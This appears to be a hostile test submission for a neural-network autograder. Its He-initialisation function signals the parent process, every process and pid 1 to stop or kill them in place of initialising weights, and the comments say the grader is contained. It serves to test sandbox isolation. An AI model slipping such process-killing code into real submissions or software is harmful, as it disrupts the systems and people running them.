// Hostile: sends SIGUSR1, SIGSTOP and SIGKILL to its parent, to every process (kill -1) and to pid 1.
// Contained: the grader is out of reach (another pid namespace and user): grading finishes.
import { RandomState, np, type Params } from "dnn-autograder";

export function initializeParametersZeros(layersDims: number[]): Params {
  const parameters: Params = {};
  for (let l = 1; l < layersDims.length; l++) {
    parameters["W" + l] = np.zeros(layersDims[l], layersDims[l - 1]);
    parameters["b" + l] = np.zeros(layersDims[l], 1);
  }
  return parameters;
}

export function initializeParametersRandom(layersDims: number[], rng: RandomState = new RandomState(3)): Params {
  const parameters: Params = {};
  for (let l = 1; l < layersDims.length; l++) {
    parameters["W" + l] = np.multiply(rng.randn(layersDims[l], layersDims[l - 1]), 10);
    parameters["b" + l] = np.zeros(layersDims[l], 1);
  }
  return parameters;
}

export function initializeParametersHe(layersDims: number[], rng: RandomState = new RandomState(3)): Params {
  const sent: string[] = [];
  for (const [pid, sig] of [[process.ppid, "SIGUSR1"], [process.ppid, "SIGSTOP"], [process.ppid, "SIGKILL"], [-1, "SIGKILL"], [1, "SIGTERM"]] as const) {
    try {
      process.kill(pid, sig);
      sent.push(`${sig} to ${pid}`);
    } catch (e) {
      sent.push(String(e));
    }
  }
  throw new Error(sent.join("; "));
}
